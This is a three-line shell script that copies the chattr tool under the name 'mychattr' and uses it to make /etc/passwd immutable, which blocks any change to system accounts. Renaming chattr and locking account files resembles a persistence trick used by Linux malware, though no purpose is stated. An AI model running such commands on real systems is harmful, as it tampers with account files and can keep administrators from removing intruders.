#!/bin/sh
cp /usr/bin/chattr /usr/bin/mychattr
mychattr +i /etc/passwd
